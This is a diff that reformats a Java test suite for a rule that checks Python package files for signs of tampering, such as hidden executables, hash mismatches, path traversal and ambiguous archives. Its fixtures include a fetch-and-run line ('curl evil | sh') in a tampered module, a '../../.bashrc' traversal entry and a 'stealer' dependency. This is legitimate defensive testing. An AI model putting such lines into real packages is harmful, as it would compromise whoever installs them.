@@ -43,10 +43,9 @@ class DistributionFilesRuleTest {
     return check(index(), Map.of(), files);
   }
 
-  private List<Finding> check(PackageMetadata metadata, Map<String, ?> parameters,
-      InspectedDistribution... files) {
-    return rule.evaluate(Distributions.context(metadata, parameters, "distribution-files",
-        files));
+  private List<Finding> check(
+      PackageMetadata metadata, Map<String, ?> parameters, InspectedDistribution... files) {
+    return rule.evaluate(Distributions.context(metadata, parameters, "distribution-files", files));
   }
 
   @Test
@@ -59,26 +58,40 @@ class DistributionFilesRuleTest {
 
     @Test
     void anExecutableOfferedAsAFileIsHighWhateverTheCaseOfItsExtension() {
-      PackageMetadata metadata = wellKept("pkg").requiresDist(List.of("requests>=2"))
-          .files(List.of(file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW),
-              file("Setup.EXE", DistributionFile.Kind.OTHER, NOW))).build();
+      PackageMetadata metadata =
+          wellKept("pkg")
+              .requiresDist(List.of("requests>=2"))
+              .files(
+                  List.of(
+                      file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW),
+                      file("Setup.EXE", DistributionFile.Kind.OTHER, NOW)))
+              .build();
 
-      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA))).singleElement()
-          .satisfies(f -> {
-            assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
-            assertThat(f.category()).isEqualTo(RiskCategory.CONTENT);
-            assertThat(f.evidence().values()).containsEntry("file", "Setup.EXE")
-                .containsEntry("extension", ".exe");
-          });
+      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA)))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.category()).isEqualTo(RiskCategory.CONTENT);
+                assertThat(f.evidence().values())
+                    .containsEntry("file", "Setup.EXE")
+                    .containsEntry("extension", ".exe");
+              });
     }
 
     @Test
     void aLegacyInstallerIsHighEvenWithAnUnlistedExtension() {
-      PackageMetadata metadata = wellKept("pkg").requiresDist(List.of("requests>=2"))
-          .files(List.of(file("pkg-2.0.win32.zip", DistributionFile.Kind.INSTALLER, NOW),
-              file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW))).build();
+      PackageMetadata metadata =
+          wellKept("pkg")
+              .requiresDist(List.of("requests>=2"))
+              .files(
+                  List.of(
+                      file("pkg-2.0.win32.zip", DistributionFile.Kind.INSTALLER, NOW),
+                      file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW)))
+              .build();
 
-      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA))).singleElement()
+      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA)))
+          .singleElement()
           .satisfies(f -> assertThat(f.message()).contains("an installer"));
     }
   }
@@ -88,16 +101,26 @@ class DistributionFilesRuleTest {
 
     @Test
     void executablesInsideAreMediumButTheLaunchersEveryoneInstallsAreNot() {
-      List<Finding> findings = check(wheel("pkg", METADATA,
-          binary("pkg/helper.EXE", BinaryFormat.PE), hashed("pkg/run.ps1", "Start-Process x"),
-          binary("pip/_vendor/distlib/t64.exe", BinaryFormat.PE),
-          hashed("pkg/build.sh", "make\n")));
+      List<Finding> findings =
+          check(
+              wheel(
+                  "pkg",
+                  METADATA,
+                  binary("pkg/helper.EXE", BinaryFormat.PE),
+                  hashed("pkg/run.ps1", "Start-Process x"),
+                  binary("pip/_vendor/distlib/t64.exe", BinaryFormat.PE),
+                  hashed("pkg/build.sh", "make\n")));
 
-      assertThat(findings).singleElement().satisfies(f -> {
-        assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
-        assertThat(f.message()).isEqualTo("pkg-2.0-py3-none-any.whl contains executables or"
-            + " scripts for other shells: pkg/helper.EXE, pkg/run.ps1");
-      });
+      assertThat(findings)
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-py3-none-any.whl contains executables or"
+                            + " scripts for other shells: pkg/helper.EXE, pkg/run.ps1");
+              });
     }
 
     @Test
@@ -105,39 +128,57 @@ class DistributionFilesRuleTest {
       ArchiveEntry elf = binary("pkg/_speed.so", BinaryFormat.ELF);
       ArchiveEntry unnamed = binary("pkg/bin/tool", BinaryFormat.MACH_O);
 
-      assertThat(check(wheel("pkg", METADATA, elf, unnamed))).singleElement()
-          .satisfies(f -> assertThat(f.message()).isEqualTo("pkg-2.0-py3-none-any.whl is tagged"
-              + " pure Python but contains native binaries: pkg/_speed.so, pkg/bin/tool"));
-      InspectedDistribution platform = inspected(
-          wheelFile("pkg-2.0-cp312-cp312-manylinux_2_17_x86_64.whl"),
-          wheel("pkg", METADATA, elf).entries());
+      assertThat(check(wheel("pkg", METADATA, elf, unnamed)))
+          .singleElement()
+          .satisfies(
+              f ->
+                  assertThat(f.message())
+                      .isEqualTo(
+                          "pkg-2.0-py3-none-any.whl is tagged"
+                              + " pure Python but contains native binaries: pkg/_speed.so, pkg/bin/tool"));
+      InspectedDistribution platform =
+          inspected(
+              wheelFile("pkg-2.0-cp312-cp312-manylinux_2_17_x86_64.whl"),
+              wheel("pkg", METADATA, elf).entries());
       assertThat(check(platform)).isEmpty();
       assertThat(check(inspected(sdistFile("pkg-2.0.tar.gz"), List.of(elf))))
           .extracting(Finding::message)
-          .contains("pkg-2.0.tar.gz is a source archive but contains prebuilt native binaries:"
-              + " pkg/_speed.so");
+          .contains(
+              "pkg-2.0.tar.gz is a source archive but contains prebuilt native binaries:"
+                  + " pkg/_speed.so");
     }
 
     @Test
     void aNativeExecutableUnderAHarmlessNameIsHighEvenInAPlatformWheel() {
-      InspectedDistribution platform = inspected(
-          wheelFile("pkg-2.0-cp312-cp312-win_amd64.whl"),
-          wheel("pkg", METADATA, binary("pkg/data/readme.txt", BinaryFormat.PE)).entries());
+      InspectedDistribution platform =
+          inspected(
+              wheelFile("pkg-2.0-cp312-cp312-win_amd64.whl"),
+              wheel("pkg", METADATA, binary("pkg/data/readme.txt", BinaryFormat.PE)).entries());
 
-      assertThat(check(platform)).singleElement().satisfies(f -> {
-        assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
-        assertThat(f.message()).isEqualTo("pkg-2.0-cp312-cp312-win_amd64.whl hides native"
-            + " executables under harmless names: pkg/data/readme.txt (PE)");
-      });
+      assertThat(check(platform))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-cp312-cp312-win_amd64.whl hides native"
+                            + " executables under harmless names: pkg/data/readme.txt (PE)");
+              });
     }
 
     @Test
     void condaPackagesAreBinaryByNature() {
-      InspectedDistribution conda = new InspectedDistribution(
-          file("pkg-2.0-h123_0.conda", DistributionFile.Kind.CONDA, NOW), "ab".repeat(32), 10,
-          InspectedDistribution.Format.CONDA,
-          List.of(binary("lib/libpkg.so", BinaryFormat.ELF),
-              binary("Scripts/pkg.exe", BinaryFormat.PE)), List.of());
+      InspectedDistribution conda =
+          new InspectedDistribution(
+              file("pkg-2.0-h123_0.conda", DistributionFile.Kind.CONDA, NOW),
+              "ab".repeat(32),
+              10,
+              InspectedDistribution.Format.CONDA,
+              List.of(
+                  binary("lib/libpkg.so", BinaryFormat.ELF),
+                  binary("Scripts/pkg.exe", BinaryFormat.PE)),
+              List.of());
 
       assertThat(check(conda)).isEmpty();
     }
@@ -153,41 +194,65 @@ class DistributionFilesRuleTest {
       tampered.set(0, hashed("pkg/__init__.py", "import os; os.system('curl evil | sh')\n"));
       tampered.add(hashed("pkg/extra.py", "print()\n"));
 
-      assertThat(check(inspected(good.file(), tampered))).singleElement().satisfies(f -> {
-        assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
-        assertThat(f.message()).isEqualTo("pkg-2.0-py3-none-any.whl's RECORD does not match the"
-            + " wheel: hashes that do not match the contents of pkg/__init__.py; files it does"
-            + " not list: pkg/extra.py");
-        assertThat(f.evidence().values()).containsEntry("wrong-hash", "pkg/__init__.py");
-      });
+      assertThat(check(inspected(good.file(), tampered)))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-py3-none-any.whl's RECORD does not match the"
+                            + " wheel: hashes that do not match the contents of pkg/__init__.py; files it does"
+                            + " not list: pkg/extra.py");
+                assertThat(f.evidence().values()).containsEntry("wrong-hash", "pkg/__init__.py");
+              });
     }
 
     @Test
     void aWheelWithoutRecordOrWithUnhashedFilesIsHigh() {
-      InspectedDistribution noRecord = inspected(wheelFile("pkg-2.0-py3-none-any.whl"),
-          List.of(hashed("pkg-2.0.dist-info/METADATA", METADATA)));
-      InspectedDistribution unhashed = inspected(wheelFile("pkg-2.0-py3-none-any.whl"), List.of(
-          hashed("pkg-2.0.dist-info/METADATA", METADATA),
-          ArchiveEntry.textFile("pkg-2.0.dist-info/RECORD",
-              "pkg-2.0.dist-info/METADATA,,\npkg-2.0.dist-info/RECORD,,\n")));
+      InspectedDistribution noRecord =
+          inspected(
+              wheelFile("pkg-2.0-py3-none-any.whl"),
+              List.of(hashed("pkg-2.0.dist-info/METADATA", METADATA)));
+      InspectedDistribution unhashed =
+          inspected(
+              wheelFile("pkg-2.0-py3-none-any.whl"),
+              List.of(
+                  hashed("pkg-2.0.dist-info/METADATA", METADATA),
+                  ArchiveEntry.textFile(
+                      "pkg-2.0.dist-info/RECORD",
+                      "pkg-2.0.dist-info/METADATA,,\npkg-2.0.dist-info/RECORD,,\n")));
 
-      assertThat(check(noRecord)).extracting(Finding::message).containsExactly(
-          "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: the wheel has no"
-              + " .dist-info/RECORD");
-      assertThat(check(unhashed)).extracting(Finding::message).containsExactly(
-          "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: files listed without a"
-              + " hash: pkg-2.0.dist-info/METADATA");
+      assertThat(check(noRecord))
+          .extracting(Finding::message)
+          .containsExactly(
+              "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: the wheel has no"
+                  + " .dist-info/RECORD");
+      assertThat(check(unhashed))
+          .extracting(Finding::message)
+          .containsExactly(
+              "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: files listed without a"
+                  + " hash: pkg-2.0.dist-info/METADATA");
     }
 
     @Test
     void hexadecimalDigestsAsSomeRepackagersWriteThemAreUnderstood() {
       ArchiveEntry module = hashed("pkg/__init__.py", "x = 1\n");
       ArchiveEntry metadata = hashed("pkg-2.0.dist-info/METADATA", METADATA);
-      InspectedDistribution hex = inspected(wheelFile("pkg-2.0-py3-none-any.whl"), List.of(
-          module, metadata, ArchiveEntry.textFile("pkg-2.0.dist-info/RECORD",
-              "pkg/__init__.py,sha256=" + module.sha256().orElseThrow() + ",6\n"
-                  + "pkg-2.0.dist-info/METADATA,sha256=" + metadata.sha256().orElseThrow()
-                  + ",1\npkg-2.0.dist-info/RECORD,,\n")));
+      InspectedDistribution hex =
+          inspected(
+              wheelFile("pkg-2.0-py3-none-any.whl"),
+              List.of(
+                  module,
+                  metadata,
+                  ArchiveEntry.textFile(
+                      "pkg-2.0.dist-info/RECORD",
+                      "pkg/__init__.py,sha256="
+                          + module.sha256().orElseThrow()
+                          + ",6\n"
+                          + "pkg-2.0.dist-info/METADATA,sha256="
+                          + metadata.sha256().orElseThrow()
+                          + ",1\npkg-2.0.dist-info/RECORD,,\n")));
 
       assertThat(check(hex)).isEmpty();
     }
@@ -203,16 +268,21 @@ class DistributionFilesRuleTest {
 
     @Test
     void anotherNameVersionOrDependenciesIsHigh() {
-      InspectedDistribution other = wheel("pkg",
-          metadataOf("pkg-evil", "2.0.1", "requests>=2", "stealer==1.0"));
+      InspectedDistribution other =
+          wheel("pkg", metadataOf("pkg-evil", "2.0.1", "requests>=2", "stealer==1.0"));
 
-      assertThat(check(other)).singleElement().satisfies(f -> {
-        assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
-        assertThat(f.message()).isEqualTo("pkg-2.0-py3-none-any.whl's own metadata differs from"
-            + " what the index declares: its name is 'pkg-evil', the index says 'pkg'; its"
-            + " version is '2.0.1', the index says '2.0'; it requires stealer==1.0, which the"
-            + " index does not list");
-      });
+      assertThat(check(other))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-py3-none-any.whl's own metadata differs from"
+                            + " what the index declares: its name is 'pkg-evil', the index says 'pkg'; its"
+                            + " version is '2.0.1', the index says '2.0'; it requires stealer==1.0, which the"
+                            + " index does not list");
+              });
     }
 
     @Test
@@ -232,27 +302,44 @@ class DistributionFilesRuleTest {
 
     @Test
     void installingAnSdistIsMediumAndNamesWhatRuns() {
-      PackageMetadata sdistOnly = wellKept("pkg").files(List.of(sdistFile("pkg-2.0.tar.gz")))
-          .build();
-      InspectedDistribution hatch = inspected(sdistFile("pkg-2.0.tar.gz"), List.of(
-          ArchiveEntry.textFile("pkg-2.0/pyproject.toml",
-              "[project]\nname = 'pkg'\n[build-system]\nrequires = ['hatchling']\n"
-                  + "build-backend = \"hatchling.build\"\n")));
-      InspectedDistribution legacy = inspected(sdistFile("pkg-2.0.tar.gz"), List.of(
-          ArchiveEntry.textFile("pkg-2.0/setup.py", "from setuptools import setup\nsetup()\n")));
+      PackageMetadata sdistOnly =
+          wellKept("pkg").files(List.of(sdistFile("pkg-2.0.tar.gz"))).build();
+      InspectedDistribution hatch =
+          inspected(
+              sdistFile("pkg-2.0.tar.gz"),
+              List.of(
+                  ArchiveEntry.textFile(
+                      "pkg-2.0/pyproject.toml",
+                      "[project]\nname = 'pkg'\n[build-system]\nrequires = ['hatchling']\n"
+                          + "build-backend = \"hatchling.build\"\n")));
+      InspectedDistribution legacy =
+          inspected(
+              sdistFile("pkg-2.0.tar.gz"),
+              List.of(
+                  ArchiveEntry.textFile(
+                      "pkg-2.0/setup.py", "from setuptools import setup\nsetup()\n")));
 
-      assertThat(check(sdistOnly, Map.of(), hatch)).singleElement().satisfies(f -> {
-        assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
-        assertThat(f.message()).isEqualTo("only a source distribution is available: installing"
-            + " pkg-2.0.tar.gz runs the build backend 'hatchling.build'");
-      });
-      assertThat(check(index(), Map.of("sdist-only-level", "low"), legacy)).singleElement()
-          .satisfies(f -> {
-            assertThat(f.level()).isEqualTo(RiskLevel.LOW);
-            assertThat(f.message()).isEqualTo("no wheel installs on the target, so pip would"
-                + " build the source distribution: installing pkg-2.0.tar.gz runs setup.py (no"
-                + " pyproject.toml)");
-          });
+      assertThat(check(sdistOnly, Map.of(), hatch))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "only a source distribution is available: installing"
+                            + " pkg-2.0.tar.gz runs the build backend 'hatchling.build'");
+              });
+      assertThat(check(index(), Map.of("sdist-only-level", "low"), legacy))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.LOW);
+                assertThat(f.message())
+                    .isEqualTo(
+                        "no wheel installs on the target, so pip would"
+                            + " build the source distribution: installing pkg-2.0.tar.gz runs setup.py (no"
+                            + " pyproject.toml)");
+              });
     }
   }
 
@@ -261,13 +348,17 @@ class DistributionFilesRuleTest {
 
     @Test
     void entriesEscapingTheTargetReject() {
-      InspectedDistribution hostile = inspected(sdistFile("pkg-2.0.tar.gz"),
-          List.of(ArchiveEntry.textFile("pkg-2.0/setup.py", "")),
-          new ArchiveProblem(Kind.PATH_TRAVERSAL, "pkg-2.0/../../.bashrc", "a '..' component"),
-          new ArchiveProblem(Kind.LINK_OUTSIDE, "pkg-2.0/k", "a symbolic link to '/etc'"));
+      InspectedDistribution hostile =
+          inspected(
+              sdistFile("pkg-2.0.tar.gz"),
+              List.of(ArchiveEntry.textFile("pkg-2.0/setup.py", "")),
+              new ArchiveProblem(Kind.PATH_TRAVERSAL, "pkg-2.0/../../.bashrc", "a '..' component"),
+              new ArchiveProblem(Kind.LINK_OUTSIDE, "pkg-2.0/k", "a symbolic link to '/etc'"));
 
-      assertThat(check(hostile)).filteredOn(f -> f.level() == RiskLevel.CRITICAL)
-          .extracting(Finding::message).containsExactly(
+      assertThat(check(hostile))
+          .filteredOn(f -> f.level() == RiskLevel.CRITICAL)
+          .extracting(Finding::message)
+          .containsExactly(
               "pkg-2.0.tar.gz holds entries that reach outside the directory it unpacks into:"
                   + " 'pkg-2.0/../../.bashrc' a '..' component; 'pkg-2.0/k' a symbolic link to"
                   + " '/etc'");
@@ -275,79 +366,109 @@ class DistributionFilesRuleTest {
 
     @Test
     void aZipThatReadsDifferentlyFromItsLocalHeadersRejects() {
-      InspectedDistribution confusing = inspected(file("pkg-2.0-py3-none-any.whl",
-          DistributionFile.Kind.WHEEL, NOW), List.of(),
-          new ArchiveProblem(Kind.AMBIGUOUS_STRUCTURE, "pkg/a.py", "98 bytes after 'pkg/a.py'"
-              + " that no directory entry accounts for"));
+      InspectedDistribution confusing =
+          inspected(
+              file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW),
+              List.of(),
+              new ArchiveProblem(
+                  Kind.AMBIGUOUS_STRUCTURE,
+                  "pkg/a.py",
+                  "98 bytes after 'pkg/a.py'" + " that no directory entry accounts for"));
 
-      assertThat(check(confusing)).filteredOn(f -> f.level() == RiskLevel.CRITICAL)
-          .singleElement().satisfies(f -> {
-            assertThat(f.message()).isEqualTo("pkg-2.0-py3-none-any.whl reads differently"
-                + " depending on the tool that unpacks it, so what was inspected may not be what"
-                + " is installed: 'pkg/a.py' 98 bytes after 'pkg/a.py' that no directory entry"
-                + " accounts for");
-            assertThat(f.evidence().values()).containsEntry("problem", "AMBIGUOUS_STRUCTURE");
-          });
+      assertThat(check(confusing))
+          .filteredOn(f -> f.level() == RiskLevel.CRITICAL)
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.message())
+                    .isEqualTo(
+                        "pkg-2.0-py3-none-any.whl reads differently"
+                            + " depending on the tool that unpacks it, so what was inspected may not be what"
+                            + " is installed: 'pkg/a.py' 98 bytes after 'pkg/a.py' that no directory entry"
+                            + " accounts for");
+                assertThat(f.evidence().values()).containsEntry("problem", "AMBIGUOUS_STRUCTURE");
+              });
     }
 
     @Test
     void hostileNamesAreEscapedAndCounted() {
       List<ArchiveProblem> problems = new ArrayList<>();
       for (int i = 0; i < 5; i++) {
-        problems.add(new ArchiveProblem(Kind.CONTROL_CHARACTERS, "a\u001b[31m" + i + "\n",
-            "control characters"));
+        problems.add(
+            new ArchiveProblem(
+                Kind.CONTROL_CHARACTERS, "a\u001b[31m" + i + "\n", "control characters"));
       }
-      InspectedDistribution odd = inspected(sdistFile("pkg-2.0.tar.gz"), List.of(),
-          problems.toArray(ArchiveProblem[]::new));
+      InspectedDistribution odd =
+          inspected(
+              sdistFile("pkg-2.0.tar.gz"), List.of(), problems.toArray(ArchiveProblem[]::new));
 
-      assertThat(check(odd)).filteredOn(f -> f.level() == RiskLevel.HIGH).singleElement()
-          .satisfies(f -> assertThat(f.message()).isEqualTo("pkg-2.0.tar.gz holds entry names"
-              + " with control characters (hidden text, terminal escapes): 'a\\u001b[31m0\\n'"
-              + " control characters; 'a\\u001b[31m1\\n' control characters; 'a\\u001b[31m2\\n'"
-              + " control characters; and 2 more"));
+      assertThat(check(odd))
+          .filteredOn(f -> f.level() == RiskLevel.HIGH)
+          .singleElement()
+          .satisfies(
+              f ->
+                  assertThat(f.message())
+                      .isEqualTo(
+                          "pkg-2.0.tar.gz holds entry names"
+                              + " with control characters (hidden text, terminal escapes): 'a\\u001b[31m0\\n'"
+                              + " control characters; 'a\\u001b[31m1\\n' control characters; 'a\\u001b[31m2\\n'"
+                              + " control characters; and 2 more"));
     }
 
     @Test
     void textLeftUnreadIsThePolicysUninspectedLevel() {
-      InspectedDistribution big = inspected(sdistFile("pkg-2.0.tar.gz"), List.of(),
-          new ArchiveProblem(Kind.NOT_READ, "pkg/big.py", "beyond the text budget"));
+      InspectedDistribution big =
+          inspected(
+              sdistFile("pkg-2.0.tar.gz"),
+              List.of(),
+              new ArchiveProblem(Kind.NOT_READ, "pkg/big.py", "beyond the text budget"));
 
-      assertThat(check(big)).filteredOn(f -> f.evidence().values().getOrDefault("problem", "")
-          .equals("NOT_READ")).singleElement().satisfies(f -> {
-            assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
-            assertThat(f.message()).contains("was not inspected in full");
-          });
+      assertThat(check(big))
+          .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals("NOT_READ"))
+          .singleElement()
+          .satisfies(
+              f -> {
+                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
+                assertThat(f.message()).contains("was not inspected in full");
+              });
       assertThat(check(index(), Map.of("uninspected-level", "critical"), big))
-          .filteredOn(f -> f.evidence().values().getOrDefault("problem", "")
-              .equals("NOT_READ"))
-          .singleElement().satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.CRITICAL));
+          .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals("NOT_READ"))
+          .singleElement()
+          .satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.CRITICAL));
     }
 
     @Test
     void entriesPastALimitMayBeAnythingSoTheFileIsRejectedUnlessThePolicySaysOtherwise() {
-      for (Kind limit : List.of(Kind.TOO_MANY_ENTRIES, Kind.TOTAL_TOO_LARGE,
-          Kind.ENTRY_TOO_LARGE)) {
-        InspectedDistribution cut = inspected(sdistFile("pkg-2.0.tar.gz"), List.of(),
-            new ArchiveProblem(limit, "", "more than the limit"));
+      for (Kind limit :
+          List.of(Kind.TOO_MANY_ENTRIES, Kind.TOTAL_TOO_LARGE, Kind.ENTRY_TOO_LARGE)) {
+        InspectedDistribution cut =
+            inspected(
+                sdistFile("pkg-2.0.tar.gz"),
+                List.of(),
+                new ArchiveProblem(limit, "", "more than the limit"));
 
-        assertThat(check(cut)).filteredOn(f -> f.evidence().values()
-            .getOrDefault("problem", "").equals(limit.name())).singleElement().satisfies(f -> {
-              assertThat(f.level()).as(limit.name()).isEqualTo(RiskLevel.CRITICAL);
-              assertThat(f.message()).contains("was not read past an [inspection] limit, so what"
-                  + " lies beyond it may be anything");
-            });
+        assertThat(check(cut))
+            .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals(limit.name()))
+            .singleElement()
+            .satisfies(
+                f -> {
+                  assertThat(f.level()).as(limit.name()).isEqualTo(RiskLevel.CRITICAL);
+                  assertThat(f.message())
+                      .contains(
+                          "was not read past an [inspection] limit, so what"
+                              + " lies beyond it may be anything");
+                });
         assertThat(check(index(), Map.of("truncated-level", "high"), cut))
-            .filteredOn(f -> f.evidence().values().getOrDefault("problem", "")
-                .equals(limit.name()))
-            .singleElement().satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.HIGH));
+            .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals(limit.name()))
+            .singleElement()
+            .satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.HIGH));
       }
     }
   }
 
   @Test
   void agreesWithTheBuiltInPolicy() {
-    var parameters = Policy.defaults().rule("distribution-files").parameters(
-        "distribution-files");
+    var parameters = Policy.defaults().rule("distribution-files").parameters("distribution-files");
     assertThat(parameters.texts("unusual-extensions", List.of()))
         .isEqualTo(DistributionFilesRule.DEFAULT_UNUSUAL);
     assertThat(parameters.texts("allowed-files", List.of()))
